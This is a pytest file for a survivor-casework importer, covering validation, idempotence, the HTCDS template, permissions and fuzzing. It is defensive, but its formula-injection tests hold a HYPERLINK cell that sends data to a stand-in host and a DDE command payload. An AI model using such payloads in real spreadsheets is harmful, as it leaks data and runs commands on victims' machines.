"""The case importer: dry run, commit, idempotence, the HTCDS template, malformed files."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from casework.importer import ImportRefused, import_cases, looks_like_formula
from casework.model import Case, ConsentRecord, Survivor
from casework.model.vocab import CaseStatus, ConsentKind, Role
from casework.vault.vault import OpenVault

TEMPLATE = (
    Path(__file__).resolve().parents[3]
    / "shared"
    / "data"
    / "htcds"
    / "HTCDS Excel Spreadsheet v2.0.xlsx"
)
TODAY = date(2026, 11, 23)

GOOD = (
    "prs_FirstName,prs_SecondName,prs_Birthdate,prs_Gender,prs_Citizenship,prs_MobilePhone,"
    "vic_TypeOfExploitation,cas_Status,ext_CaseReference,ext_IntakeDate,ext_Caseworker,"
    "ext_ClosedDate,ext_ClosureReason,ext_ConsentAggregate,Shoe size\n"
    "Olena,Kovalenko,1998-04-02,Feminine,UA;MD,+380 67 123 4567,ForcedLabour;SexualExploitation,"
    "Active,R-1,2026-01-05,amina,,,yes,42\n"
    "Bad,Date,1998-13-02,Feminine,UA,,,Active,R-2,2026-01-05,,,,,\n"
    "Closed,Case,,Masculine,GH,,,Closed,R-3,2025-01-05,,2026-02-01,goals-met,no,\n"
    ",Noname,,,,,,,R-4,2026-02-01,,,,,\n"
)


def count(vault: OpenVault, model: type) -> int:
    with vault.session() as session:
        return session.execute(select(func.count()).select_from(model)).scalar_one()


def run(vault: OpenVault, data: bytes, name: str = "cases.csv", commit: bool = False):
    with vault.transaction() as session:
        return import_cases(session, vault.actor, data, name, TODAY, commit)


def test_a_dry_run_lists_every_problem_and_writes_nothing(staffed_vault: OpenVault) -> None:
    report = run(staffed_vault, GOOD.encode())
    assert (report.rows_read, report.valid) == (4, 2)
    assert {(p.row, p.column, p.value) for p in report.problems} == {
        (3, "prs_Birthdate", "1998-13-02"),
        (5, "prs_FirstName", ""),
    }
    assert all(p.reason for p in report.problems)
    assert report.ignored_columns == ["Shoe size"]
    assert count(staffed_vault, Case) == 0


def test_commit_imports_the_valid_rows_once(staffed_vault: OpenVault) -> None:
    report = run(staffed_vault, GOOD.encode(), commit=True)
    assert report.imported == 2 and report.committed
    with staffed_vault.session() as session:
        olena = session.execute(select(Case).where(Case.reference == "R-1")).scalar_one()
        assert olena.survivor.citizenship == ["UA", "MD"]
        assert olena.survivor.exploitation_types == ["ForcedLabour", "SexualExploitation"]
        assert olena.assigned_caseworker_id is not None
        closed = session.execute(select(Case).where(Case.reference == "R-3")).scalar_one()
        assert closed.status == CaseStatus.CLOSED and closed.closed_date == date(2026, 2, 1)
        kinds = session.execute(select(ConsentRecord.kind)).scalars().all()
        assert kinds == [ConsentKind.AGGREGATE_REPORTING]
    again = run(staffed_vault, GOOD.encode(), commit=True)
    assert again.imported == 0 and again.already_present == 2
    assert count(staffed_vault, Case) == 2


def test_rows_without_a_reference_are_still_imported_only_once(staffed_vault: OpenVault) -> None:
    data = b"prs_FirstName,ext_IntakeDate\nAmani,2026-03-01\nBaraka,2026-03-02\n"
    assert run(staffed_vault, data, commit=True).imported == 2
    assert run(staffed_vault, data, commit=True).imported == 0
    assert count(staffed_vault, Case) == 2


def template_workbook() -> openpyxl.Workbook:
    """IOM's template from ../shared when it is there; otherwise one of the same shape: field
    names in the first row (with the misspelt column), labels in the second, numbered rows."""
    if TEMPLATE.exists():
        return openpyxl.load_workbook(TEMPLATE)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    names = [
        None,
        "cas_CaseOwner",
        "prs_FirstName",
        "prs_SecondName",
        "con_Consent",
        "prs_Gender",
        "vic_TraffickingStatus",
        "vic_TraffickinStatusDecisionMakingOrg",
        "cas_Status",
        "cas_IncomingReferralDate",
    ]
    labels = [
        None,
        "Case Owner",
        "First Name",
        "Second Name",
        "Consent",
        "Gender",
        "Trafficking Status",
        "Trafficking Status Decision Making Organization",
        "Status",
        "Incoming Referral Date",
    ]
    sheet.append(names)
    sheet.append(labels)
    for number in range(1, 20):
        sheet.append([number])
    return workbook


def test_the_htcds_excel_template_with_its_misspelt_column(
    staffed_vault: OpenVault, tmp_path: Path
) -> None:
    workbook = template_workbook()
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert "vic_TraffickinStatusDecisionMakingOrg" in header
    values = {
        "prs_FirstName": "Neema",
        "prs_SecondName": "Wafula",
        "prs_Gender": "Feminine",
        "vic_TraffickingStatus": "ActualVictimOfTrafficking",
        "cas_Status": "Active",
        "cas_IncomingReferralDate": date(2026, 5, 4),
        "con_Consent": "Yes",
        "vic_TraffickinStatusDecisionMakingOrg": "Police",
    }
    for column, value in values.items():
        sheet.cell(row=3, column=header.index(column) + 1, value=value)
    out = io.BytesIO()
    workbook.save(out)
    report = run(staffed_vault, out.getvalue(), "template.xlsx", commit=True)
    assert (report.rows_read, report.imported, report.problems) == (1, 1, [])
    with staffed_vault.session() as session:
        case = session.execute(select(Case)).scalar_one()
        assert case.intake_date == date(
            2026, 5, 4
        )  # from the referral date: the template has no ext_IntakeDate
        assert case.survivor.trafficking_status.value == "ActualVictimOfTrafficking"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("prs_FirstName,ext_IntakeDate\nJosé,2026-01-01\n".encode("latin-1"), "UTF-8"),
        (b"name,date\nx,y\n", "header"),
        (b"", "empty"),
        (bytes(range(256)) * 40_000, "not a text file"),
        (b"PK\x03\x04" + b"\x00" * 100, "Excel"),
        (b'prs_FirstName,ext_IntakeDate\n"unterminated,2026-01-01\n', "CSV"),
    ],
)
def test_malformed_files_are_refused_whole(
    staffed_vault: OpenVault, data: bytes, message: str
) -> None:
    with pytest.raises(ImportRefused, match=message):
        run(staffed_vault, data, commit=True)
    assert count(staffed_vault, Case) == 0


def test_a_formula_cell_refuses_the_whole_file(staffed_vault: OpenVault) -> None:
    data = (
        b"prs_FirstName,prs_MobilePhone,ext_IntakeDate\n"
        b"Amani,+254 700 123 456,2026-01-01\n"
        b'Baraka,"=HYPERLINK(""http://x.example/?""&A1,""click"")",2026-01-01\n'
    )
    with pytest.raises(ImportRefused, match="formula") as refused:
        run(staffed_vault, data, commit=True)
    assert refused.value.report is not None
    assert refused.value.report.problems[0].row == 3
    assert count(staffed_vault, Case) == 0


def test_formula_detection_leaves_phone_numbers_alone() -> None:
    assert looks_like_formula("=1+1") and looks_like_formula("@SUM(A1)")
    assert looks_like_formula("+HYPERLINK(1)") and looks_like_formula("-cmd|' /C calc'!A0")
    assert not looks_like_formula("+254 700 123 456") and not looks_like_formula("-5")


def test_only_administrators_and_supervisors_import(staffed_vault: OpenVault, vault_folder) -> None:
    from tests.conftest import WORKER_PASSWORD

    amina = vault_folder.unlock("amina", WORKER_PASSWORD)
    assert Role.CASEWORKER in amina.actor.roles
    with pytest.raises(Exception, match="permission"):
        run(amina, GOOD.encode())
    amina.lock()


HEADER = b"prs_FirstName,prs_Birthdate,cas_Status,ext_IntakeDate,ext_CaseReference\n"


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    body=st.one_of(
        st.binary(max_size=400),
        st.lists(
            st.lists(st.text(max_size=12), min_size=0, max_size=6).map(
                lambda cells: ",".join(cells)
            ),
            max_size=8,
        ).map(lambda lines: HEADER + "\n".join(lines).encode("utf-8", "surrogatepass")),
    )
)
def test_any_bytes_give_a_report_or_a_clean_refusal_never_a_partial_import(
    staffed_vault: OpenVault, body: bytes
) -> None:
    before = count(staffed_vault, Survivor), count(staffed_vault, Case)
    try:
        report = run(staffed_vault, body, commit=True)
    except ImportRefused as refused:
        assert refused.message
        assert (count(staffed_vault, Survivor), count(staffed_vault, Case)) == before
        return
    after = count(staffed_vault, Survivor), count(staffed_vault, Case)
    assert after == (before[0] + report.imported, before[1] + report.imported)
    assert report.valid == report.imported
